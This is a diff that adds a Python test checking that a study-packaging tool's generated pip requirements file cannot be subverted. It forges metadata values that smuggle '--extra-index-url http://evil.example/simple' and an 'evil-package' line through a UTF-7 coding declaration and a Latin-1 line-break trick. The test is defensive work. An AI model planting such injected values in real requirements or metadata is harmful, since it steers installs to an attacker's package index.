@@ -3,6 +3,7 @@
 import os
 import shutil
 import tarfile
+import tokenize
 import uuid
 from collections.abc import Callable
 from pathlib import Path
@@ -85,6 +86,25 @@ def test_pip_is_told_names_and_versions_and_nothing_else(study: Path, tmp_path: 
     assert [line for line in lines if not line.startswith("# ")] == ["torch==2.11.0+cu128"]
     assert "# left out: numpy 2.0 --index-url http://evil.example/simple evil-package" in lines
     assert len([line for line in lines if line.startswith("# left out: ")]) == len(forged) - 1
+
+
+def test_no_remark_tells_pip_to_read_the_file_in_another_way(study: Path, tmp_path: Path) -> None:
+    option = "--extra-index-url http://evil.example/simple"
+    forged = f"x coding: utf-7 +AAo-{option} +AAo-evil-package+AAo-"
+    # The last byte of this letter ends a line in Latin-1, which pip reads where the locale says so.
+    letter = f"\N{LATIN CAPITAL LETTER A WITH RING ABOVE}{option}"
+    edit(
+        study / "study.json",
+        lambda values: values.update(
+            git_commit=forged, versions={"python": forged, "torch": "2.11.0"}, hardware={"processor": letter}
+        ),
+    )
+    assert main([str(study), str(tmp_path / "one.tar")]) == 0
+    file = unpacked(tmp_path / "one.tar", tmp_path / "there") / "environment.txt"
+    assert file.read_bytes().isascii()
+    with tokenize.open(file) as stream:
+        # As pip reads it: in the encoding that one of the first two lines declares.
+        assert [line for line in stream.read().splitlines() if not line.startswith("#")] == ["torch==2.11.0"]
 
 
 def test_measurements_of_efficiency_are_packed(study: Path, tmp_path: Path) -> None:
